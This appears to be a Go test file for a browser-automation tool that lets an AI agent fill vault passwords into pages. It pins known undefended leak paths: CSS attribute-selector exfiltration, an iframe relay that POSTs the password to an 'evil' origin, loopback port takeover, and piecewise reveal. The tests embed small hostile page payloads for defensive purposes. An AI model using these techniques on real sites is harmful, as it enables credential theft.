package tools

import (
	"net"
	"net/http"
	"strings"
	"testing"

	"browser-mcp/vault"
)

// These pin what is known not to be defended (threats, part C), so that a change is noticed. SECURITY.md lists them.

// The destination has the value by design and can write it in a way that nobody recognises.
func TestResidualReencodedEchoIsShown(t *testing.T) {
	shifted := strings.Map(func(r rune) rune { return r + 1 }, signInPassword)
	r := newRig(t).withSite()
	r.site.Page("/shift.html", `<form onsubmit="return false"><input type="password" name="password" aria-label="Password">
<button onclick="out.textContent = [...document.forms[0].password.value].map(c => String.fromCharCode(c.charCodeAt(0) + 1)).join('')">Show</button></form><p id="out"></p>`)
	r.shelf.put("shop", vault.Password, signInPassword, "sbm:origin", r.site.Shop)
	a := r.connect()
	a.call("navigate", map[string]any{"url": r.site.Shop + "/shift.html"})
	view := a.look()
	a.call("fill_secret", map[string]any{"secret_id": "shop", "element_uid": uid(t, view, `input password`)})
	a.call("click", map[string]any{"element_uid": uid(t, view, `button "Show"`)})
	if view := a.look(); !strings.Contains(view, shifted) {
		t.Errorf("snapshot:\n%s\nwant the value with each character shifted by one: is this caught now?", view)
	}
}

// A page that mirrors its fields into attributes gives them to any style sheet in it.
func TestResidualStyleSheetReadsMirroredValue(t *testing.T) {
	r := newRig(t).withSite()
	r.site.Page("/mirror.html", `<style>#field[value^="X"] { background: url({{evil}}/collect?begins-with-X) }</style>
<input type="password" id="field" name="password" aria-label="Password" oninput="this.setAttribute('value', this.value)">`)
	r.shelf.put("shop", vault.Password, signInPassword, "sbm:origin", r.site.Shop)
	a := r.connect()
	a.clean(signInPassword)
	a.call("navigate", map[string]any{"url": r.site.Shop + "/mirror.html"})
	a.call("fill_secret", map[string]any{"secret_id": "shop", "element_uid": uid(t, a.look(), `input password`)})
	request, err := r.site.AwaitPath(t.Context(), http.MethodGet, "/collect")
	if err != nil || request.Origin != r.site.Evil || request.Query != "begins-with-X" {
		t.Errorf("the style sheet's request = %+v, %v, want one that tells the first character", request, err)
	}
}

// A page may hand on what it was given.
func TestResidualDestinationHandsOn(t *testing.T) {
	r := newRig(t).withSite()
	r.site.Page("/friend.html", `<script>onmessage = event => fetch('/collect', {method: 'POST', body: event.data})</script>`)
	r.site.Page("/hand.html", `<input type="password" id="field" aria-label="Password" oninput="frames[0].postMessage(this.value, '*')"><iframe src="{{evil}}/friend.html"></iframe>`)
	r.shelf.put("shop", vault.Password, signInPassword, "sbm:origin", r.site.Shop)
	a := r.connect()
	a.clean(signInPassword)
	a.call("navigate", map[string]any{"url": r.site.Shop + "/hand.html"})
	a.call("fill_secret", map[string]any{"secret_id": "shop", "element_uid": uid(t, a.look(), `input password`)})
	if request, err := r.site.AwaitPath(t.Context(), http.MethodPost, "/collect"); err != nil || request.Body != signInPassword {
		t.Errorf("what the other origin got = %+v, %v, want the value", request, err)
	}
}

// A binding to a plain loopback origin trusts whoever holds the port.
func TestResidualLoopbackOriginBelongsToWhoeverHoldsThePort(t *testing.T) {
	first, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	address := first.Addr().String()
	_, port, _ := net.SplitHostPort(address)
	origin := "http://localhost:" + port
	r := newRig(t)
	r.shelf.put("shop", vault.Password, signInPassword, "sbm:origin", origin)
	if err := first.Close(); err != nil {
		t.Fatal(err)
	}
	second, err := net.Listen("tcp4", address)
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(`<input type="password" aria-label="Password">`))
	})}
	done := make(chan error, 1)
	// Ends with server.Close, whose cleanup waits for it.
	go func() { done <- server.Serve(second) }()
	t.Cleanup(func() { server.Close(); <-done })
	a := r.connect()
	a.clean(signInPassword)
	a.call("navigate", map[string]any{"url": origin + "/"})
	text := a.call("fill_secret", map[string]any{"secret_id": "shop", "element_uid": uid(t, a.look(), `input password`)}).Text()
	if !strings.Contains(text, `"filled":true`) {
		t.Errorf("fill at the port's new holder = %s, want it filled", text)
	}
}

// No single result holds the value, so no result is told from others.
func TestResidualValueSpreadOverResults(t *testing.T) {
	r := newRig(t).withSite()
	r.site.Page("/pieces.html", `<form onsubmit="return false"><input type="password" name="password" aria-label="Password">
<button onclick="out.textContent = 'piece ' + document.forms[0].password.value.substr(at, 4) + '.'; at += 4">Next</button></form><p id="out"></p><script>let at = 0</script>`)
	r.shelf.put("shop", vault.Password, signInPassword, "sbm:origin", r.site.Shop)
	a := r.connect()
	a.call("navigate", map[string]any{"url": r.site.Shop + "/pieces.html"})
	view := a.look()
	a.call("fill_secret", map[string]any{"secret_id": "shop", "element_uid": uid(t, view, `input password`)})
	next, got := uid(t, view, `button "Next"`), ""
	for range (len(signInPassword) + 3) / 4 {
		a.call("click", map[string]any{"element_uid": next})
		_, rest, _ := strings.Cut(a.look(), "piece ")
		piece, _, _ := strings.Cut(rest, ".\n")
		got += piece
	}
	if got != signInPassword {
		t.Errorf("pieces = %q, want the whole value: are parts caught now?", got)
	}
}
